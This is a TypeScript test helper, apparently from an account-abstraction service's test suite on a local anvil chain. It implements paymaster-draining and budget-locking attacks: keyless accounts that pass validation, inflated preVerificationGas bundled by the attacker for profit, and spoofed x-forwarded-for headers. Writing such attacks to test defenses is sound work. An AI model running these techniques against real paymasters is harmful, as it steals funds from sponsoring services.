import { encodeHandleOps, type UserOperation } from '@latchkit/backend/chain'
import {
  concat,
  createWalletClient,
  encodeFunctionData,
  http,
  parseAbi,
  parseEther,
  parseGwei,
  type Address,
  type Hex,
} from 'viem'
import { entryPoint08Address, formatUserOperationRequest } from 'viem/account-abstraction'
import { generatePrivateKey, privateKeyToAccount } from 'viem/accounts'
import type { AccountApp, AccountStack, TestAccount } from './accountStack.ts'
import { draftOperation } from './draftOperation.ts'

/** Attacks on what a site pays for, each as an anonymous caller with the public project id. */
export interface SponsorshipAttack {
  /** Operations for which the server has signed. */
  readonly signed: number
  /** The server's reason for the last one that it has not signed. */
  readonly rejection: string | undefined
  readonly paymasterLostWei: bigint
  readonly attackerGotWei: bigint
  /** Gas of the attacker's own transaction. */
  readonly attackerPaidWei: bigint
}

/** Answers 0 to everything: passes `validateUserOp` without a key, and makes no call. */
const keylessCode: Hex = '0x5f5f5260205ff3'
const deployKeyless = concat(['0x66', keylessCode, '0x5f5260076019f3'])
const greedy = {
  preVerificationGas: 2_000_000n,
  verificationGasLimit: 60_000n,
  callGasLimit: 60_000n,
  maxFeePerGas: parseGwei('4'),
  maxPriorityFeePerGas: parseGwei('4'),
}
const abi = parseAbi([
  'function execute(address to, uint256 value, bytes data)',
  'function approve(address to, uint256 amount)',
])
const anyone: Address = '0x00000000000000000000000000000000000a11ce'

/**
 * Asks for the sponsorship of operations that offer far more than they cost, or as much as the server lets pass, and
 * bundles them itself, so that the EntryPoint pays the difference to the attacker.
 * @param accounts without a key and without code that makes calls, or ordinary ones (EIP-7702)
 */
export async function drainPaymaster(
  stack: AccountStack,
  app: Pick<AccountApp, 'ask'>,
  options: {
    readonly token: Address
    readonly accounts: 'keyless' | 'ordinary'
    readonly count: number
  },
): Promise<SponsorshipAttack> {
  const purse = privateKeyToAccount(generatePrivateKey())
  const beneficiary = privateKeyToAccount(generatePrivateKey()).address
  await stack.giveCoins(purse.address, parseEther('10'))
  const signed: UserOperation[] = []
  let rejection: string | undefined
  for (let index = 0; index < options.count; index++) {
    const attacker =
      options.accounts === 'keyless'
        ? await draftKeyless(stack, options.token)
        : await draftOrdinary(stack, options.token)
    const answer = await askFor(app, attacker.operation)
    if (answer.sponsored) signed.push(await attacker.sign(answer.sponsored))
    else rejection = answer.rejection
  }
  const before = await balances(stack, purse.address, beneficiary)
  if (signed.length > 0) {
    const authorizationList = signed.flatMap(({ authorization }) =>
      authorization ? [authorization] : [],
    )
    const wallet = createWalletClient({
      account: purse,
      chain: stack.chain,
      transport: http(stack.anvil.url),
    })
    const hash = await wallet.sendTransaction({
      to: entryPoint08Address,
      data: encodeHandleOps(signed, beneficiary),
      gas: 16_000_000n,
      ...(authorizationList.length > 0 && { authorizationList }),
    })
    await stack.client.waitForTransactionReceipt({ hash })
  }
  const after = await balances(stack, purse.address, beneficiary)
  return {
    signed: signed.length,
    rejection,
    paymasterLostWei: before.paymaster - after.paymaster,
    attackerGotWei: after.beneficiary - before.beneficiary,
    attackerPaidWei: before.purse - after.purse,
  }
}

/**
 * Reserves as much of the month as it can with operations of new accounts that nobody signs.
 * @returns how many were reserved, and how many wei
 */
export async function lockSponsorship(
  stack: AccountStack,
  app: Pick<AccountApp, 'ask'>,
  options: { readonly token: Address; readonly count: number; readonly client: string },
): Promise<{ readonly reserved: number; readonly wei: bigint; readonly rejection?: string }> {
  let [reserved, wei] = [0, 0n]
  let rejection: string | undefined
  for (let index = 0; index < options.count; index++) {
    const { operation } = await draftOrdinary(stack, options.token)
    const answer = await askFor(app, operation, options.client)
    if (answer.sponsored) {
      reserved += 1
      wei += mostWeiOf(answer.sponsored)
    } else rejection = answer.rejection
  }
  return { reserved, wei, ...(rejection !== undefined && { rejection }) }
}

interface Attacker {
  readonly operation: UserOperation
  sign(operation: UserOperation): Promise<UserOperation>
}

async function draftKeyless({ anvil }: AccountStack, token: Address): Promise<Attacker> {
  const from = anvil.accounts[8] ?? anyone
  const { contractAddress } = await anvil.send({ from, data: deployKeyless })
  const operation: UserOperation = {
    sender: contractAddress,
    nonce: 0n,
    callData: encodeFunctionData({
      abi,
      functionName: 'execute',
      args: [token, 0n, approve()],
    }),
    ...greedy,
    signature: '0x',
  }
  return { operation, sign: async (sponsored) => sponsored }
}

async function draftOrdinary(stack: AccountStack, token: Address): Promise<Attacker> {
  const user: TestAccount = await stack.createAccount('0')
  const calls = [{ to: token, data: approve() }]
  const operation = await draftOperation(user, calls, {
    ...greedy,
    signature: await user.account.getStubSignature(),
  })
  return {
    operation,
    sign: async (sponsored) => ({
      ...sponsored,
      signature: await user.account.signUserOperation({ ...sponsored, chainId: stack.chain.id }),
    }),
  }
}

function approve(): Hex {
  return encodeFunctionData({ abi, functionName: 'approve', args: [anyone, 1n] })
}

/** Tries a greedy operation first, then one that offers 20 % more gas than the estimate and the usual fees. */
async function askFor(
  app: Pick<AccountApp, 'ask'>,
  operation: UserOperation,
  client?: string,
): Promise<{ readonly sponsored?: UserOperation; readonly rejection?: string }> {
  const headers = client === undefined ? {} : { 'x-forwarded-for': client }
  const ask = async (method: string, asked: UserOperation) =>
    await app.ask(
      method,
      [formatUserOperationRequest(asked), entryPoint08Address, '0x7a69', {}],
      '',
      headers,
    )
  const request = async (asked: UserOperation) => {
    const { status, result, error } = await ask('pm_getPaymasterData', asked)
    if (!result) return error?.message ?? `HTTP ${status}`
    const paid = result as Readonly<Record<string, Hex>>
    return {
      ...asked,
      paymaster: paid['paymaster'] ?? anyone,
      paymasterData: paid['paymasterData'] ?? '0x',
      paymasterVerificationGasLimit: BigInt(paid['paymasterVerificationGasLimit'] ?? 0),
      paymasterPostOpGasLimit: BigInt(paid['paymasterPostOpGasLimit'] ?? 0),
    }
  }
  const sponsored = await request(operation)
  if (typeof sponsored !== 'string') return { sponsored }
  const stub = (await ask('pm_getPaymasterStubData', operation)).result ?? {}
  const estimated = await app.ask(
    'eth_estimateUserOperationGas',
    [{ ...formatUserOperationRequest({ ...operation, ...noGas }), ...stub }, entryPoint08Address],
    '',
    headers,
  )
  const gas = Object.fromEntries(
    Object.entries((estimated.result ?? {}) as Readonly<Record<string, Hex>>).map(
      ([field, value]) => [field, (BigInt(value) * 119n) / 100n],
    ),
  )
  const modest = await request({ ...operation, ...gas, ...usualFees })
  return typeof modest === 'string' ? { rejection: modest } : { sponsored: modest }
}

const noGas = { preVerificationGas: 0n, verificationGasLimit: 0n, callGasLimit: 0n }
const usualFees = { maxFeePerGas: parseGwei('1.2'), maxPriorityFeePerGas: parseGwei('1.2') }

function mostWeiOf(operation: UserOperation): bigint {
  const { preVerificationGas, verificationGasLimit, callGasLimit, maxFeePerGas } = operation
  const paymasterGas =
    (operation.paymasterVerificationGasLimit ?? 0n) + (operation.paymasterPostOpGasLimit ?? 0n)
  return (preVerificationGas + verificationGasLimit + callGasLimit + paymasterGas) * maxFeePerGas
}

async function balances(
  { client, service }: AccountStack,
  purse: Address,
  beneficiary: Address,
): Promise<{ readonly paymaster: bigint; readonly purse: bigint; readonly beneficiary: bigint }> {
  return {
    paymaster: await client.readContract({
      address: entryPoint08Address,
      abi: parseAbi(['function balanceOf(address) view returns (uint256)']),
      functionName: 'balanceOf',
      args: [service.paymaster08.address],
    }),
    purse: await client.getBalance({ address: purse }),
    beneficiary: await client.getBalance({ address: beneficiary }),
  }
}
